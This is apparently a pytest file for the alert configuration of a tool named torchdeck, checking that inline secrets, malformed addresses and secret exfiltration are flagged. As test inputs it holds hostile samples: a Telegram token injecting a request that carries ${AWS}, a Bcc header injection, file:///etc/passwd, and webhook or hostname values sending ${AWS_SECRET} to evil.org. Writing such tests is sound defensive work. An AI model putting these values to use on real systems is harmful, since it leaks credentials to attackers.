"""Rules on alerts: what is refused, and what a plan has of them."""

from __future__ import annotations

from datetime import datetime
from pathlib import Path

import pytest

from support.values.run_files import MINIMAL, load, only_problem, problems
from torchdeck.contract.plan.alert_plan import AlertTarget
from torchdeck.plan.alerts import alert_plan


@pytest.mark.parametrize(
    ("overrides", "path", "wrong"),
    [
        (['alerts.on=["failed", "fialed"]'], "alerts.on[1]", "not an event"),
        (['alerts.on=["failed", "failed"]'], "alerts.on[1]", "listed twice"),
        (['alerts.on=["test"]'], "alerts.on[0]", "not an event"),
        (["alerts.slack=https://hooks.slack.com/services/T0/B0/abc"], "alerts.slack", "it is a secret"),
        (["alerts.discord=https://discord.com/api/webhooks/1/abc"], "alerts.discord", "it is a secret"),
        (["alerts.telegram.token=1:a", "alerts.telegram.chat=x"], "alerts.telegram.token", "it is a secret"),
        (
            ['alerts.telegram.token="1:evil/setMyDescription?d=${AWS}&x="', "alerts.telegram.chat=x"],
            "alerts.telegram.token",
            "it is a secret",
        ),
        (["alerts.telegram.token=${T}"], "alerts.telegram.token", "chat is not set"),
        (["alerts.telegram.chat=x"], "alerts.telegram.chat", "token is not set"),
        (["alerts.ntfy=ntfy.sh/topic"], "alerts.ntfy", "not an address of HTTP"),
        (["alerts.ntfy=https://ntfy.sh/$TOPIC"], "alerts.ntfy", "refers to no variable"),
        (["alerts.ntfy=https://me:pw@ntfy.sh/t"], "alerts.ntfy", "contains a password"),
        (["alerts.webhook.url=file:///etc/passwd"], "alerts.webhook.url", "not an address of HTTP"),
        (
            ["alerts.webhook.url=https://h", 'alerts.webhook.headers={Authorization = "Bearer abc"}'],
            "alerts.webhook.headers.Authorization",
            "it is a secret",
        ),
        (
            ["alerts.webhook.url=https://h", 'alerts.webhook.headers={"a b" = "c"}'],
            'alerts.webhook.headers."a b"',
            "not a header",
        ),
        (["alerts.webhook.method=PUT"], "alerts.webhook.method", "no effect without url"),
        (
            ["alerts.webhook.url=https://h", "alerts.webhook.method=GET", "alerts.webhook.body=x"],
            "alerts.webhook.body",
            "has no body",
        ),
        (['alerts.email=["no address"]'], "alerts.email[0]", "not an address"),
        (['alerts.email=["a@b\\nBcc: c@d"]'], "alerts.email[0]", "not an address"),
        (['alerts.email=["${USER}@evil.org"]'], "alerts.email[0]", "not an address"),
        (["alerts.end_by=tomorrow"], "alerts.end_by", "not a date and time"),
    ],
)  # fmt: skip
def test_wrong_alerts_are_named(tmp_path: Path, overrides: list[str], path: str, wrong: str) -> None:
    """Each at its key, before anything is written."""
    problem = only_problem(tmp_path, MINIMAL, *overrides)
    assert problem.path == path
    assert wrong in problem.wrong


def test_a_plan_has_targets_with_references_and_no_values(tmp_path: Path) -> None:
    """In the order of the schema."""
    overrides = (
        "alerts.desktop=true",
        'alerts.email=["me@example.org"]',
        "alerts.slack=${SLACK}",
        "alerts.telegram.token=${BOT}",
        'alerts.telegram.chat="-42"',
        "alerts.webhook.url=https://h/${KEY}",
        'alerts.webhook.headers={X-Key = "${KEY}"}',
        'alerts.end_by="2027-01-31 08:00"',
        'run.secrets=["WANDB", "BOT"]',
    )
    config = load(tmp_path, MINIMAL, *overrides)
    plan = alert_plan(config)
    assert plan is not None
    assert plan.targets == (
        AlertTarget("desktop"),
        AlertTarget("email", to=("me@example.org",)),
        AlertTarget("slack", "${SLACK}"),
        AlertTarget("telegram", "${BOT}", ("-42",)),
        AlertTarget("webhook", "https://h/${KEY}", headers={"X-Key": "${KEY}"}),
    )
    assert plan.secrets == {"SLACK", "BOT", "KEY"}
    assert config.secrets == ("WANDB", "BOT", "KEY", "SLACK")
    assert plan.end_by == datetime(2027, 1, 31, 8).timestamp()  # noqa: DTZ001 - of this machine


def test_no_target_is_no_plan(tmp_path: Path) -> None:
    """As is a list of no events."""
    assert alert_plan(load(tmp_path, MINIMAL)) is None
    assert alert_plan(load(tmp_path, MINIMAL, "alerts.desktop=true", "alerts.on=[]")) is None
    assert problems(tmp_path, MINIMAL, "alerts.desktop=1")[0].path == "alerts.desktop"


@pytest.mark.parametrize(
    ("overrides", "sends"),
    [
        (["alerts.slack=${HOOK}"], False),
        (["alerts.ntfy=${HOOK}/topic"], False),
        (["alerts.ntfy=https://ntfy.sh/topic"], False),
        (["alerts.telegram.token=${BOT}", "alerts.telegram.chat=x"], False),
        (["alerts.telegram.token=${BOT}", 'alerts.telegram.chat="${AWS_SECRET}"'], True),
        (["alerts.ntfy=https://ntfy.sh/${TOPIC}"], True),
        (["alerts.slack=${HOOK}.evil.org"], True),
        (["alerts.webhook.url=https://evil.org", "alerts.webhook.body=${AWS_SECRET}"], True),
    ],
)
def test_a_secret_that_goes_to_a_host_of_the_run_file_is_known(
    tmp_path: Path, overrides: list[str], sends: bool
) -> None:
    """That takes the user's trust in the run file; an address that is itself the secret does not."""
    assert load(tmp_path, MINIMAL, *overrides).alerts.sends_secrets is sends
